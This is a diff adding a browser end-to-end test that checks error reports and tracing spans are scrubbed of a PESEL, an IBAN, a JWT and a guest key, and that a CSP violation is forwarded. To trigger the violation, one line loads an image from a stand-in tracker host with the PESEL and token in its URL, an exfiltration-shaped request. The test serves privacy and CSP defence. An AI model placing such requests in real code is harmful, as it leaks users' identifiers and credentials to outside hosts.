@@ -244,3 +244,69 @@ test('a violation is forwarded to error reporting, with its directive and blocke
   );
   cspViolations.length = 0; // caused on purpose
 });
+
+test('error events and streamed spans carry no PESEL, IBAN or token (issue 12, point 6)', async ({
+  page,
+  context,
+  cspViolations,
+}) => {
+  const envelopes = await answerSentry(context);
+  const secrets = {
+    pesel: '44051401359',
+    iban: 'PL61109010140000071219812874',
+    jwt: 'eyJhbGciOiJIUzI1NiJ9.eyJ1dWlkIjoiMCJ9.c2lnbmF0dXJl',
+    guestKey: '3c01x00t47',
+  };
+  await page.goto(`./#${paths.home}`);
+  await expectMainHeading(page);
+  await page.evaluate(async ({ pesel, iban, jwt, guestKey }) => {
+    // A navigation breadcrumb (from / to) and span with the PESEL in the query and the route.
+    history.pushState({}, '', `/?pesel=${pesel}#/pesel_${pesel}x`);
+    // A console breadcrumb: a spaced PESEL, an IBAN, a JSON token field, a guest key.
+    console.warn(
+      `PESEL ${pesel.slice(0, 6)} ${pesel.slice(6)} IBAN ${iban} {"access_token":"${jwt}"} ${guestKey}`,
+    );
+    // An http.client span and a fetch breadcrumb with the PESEL in the path and query.
+    await fetch(`/records/${pesel}/?iban=${iban}`, { headers: { Authorization: `Bearer ${jwt}` } });
+    // An error event (a CSP violation, forwarded) that carries the breadcrumbs above.
+    const image = new Image();
+    image.src = `https://tracker.example/${pesel}.png?token=${jwt}`;
+    document.body.append(image);
+  }, secrets);
+
+  const items = () =>
+    envelopes.flatMap((envelope) =>
+      envelope.split('\n').flatMap((line) => {
+        try {
+          return [JSON.parse(line) as Record<string, unknown>];
+        } catch {
+          return [];
+        }
+      }),
+    );
+  // Streamed spans arrive in span items (not a transaction): wait for the flow's request span.
+  const spans = () =>
+    items().flatMap((item) =>
+      item.type === undefined && Array.isArray(item.items)
+        ? (item.items as Record<string, unknown>[])
+        : [],
+    );
+  await expect
+    .poll(() => spans().some((span) => JSON.stringify(span).includes('/records/')), {
+      timeout: 45_000,
+    })
+    .toBe(true);
+  await expect
+    .poll(() => envelopes.join('\n'), { timeout: 10_000 })
+    .toContain('CSP violation: img-src blocked https://tracker.example');
+  const everything = envelopes.join('\n');
+  // The flow did reach the reports: the scrubbed navigation and request show their placeholders.
+  expect(everything).toContain('[pesel]');
+  for (const [name, value] of Object.entries(secrets))
+    expect(everything, `${name} in a report`).not.toContain(value);
+  expect(everything).not.toContain('440514 01359');
+  expect(everything).not.toMatch(/eyJ[\w-]+\.[\w-]+/);
+  cspViolations.length = 0; // caused on purpose
+  // The address held the PESEL on purpose; the storage guard checks the address too.
+  await page.evaluate(() => history.replaceState({}, '', '/#/'));
+});
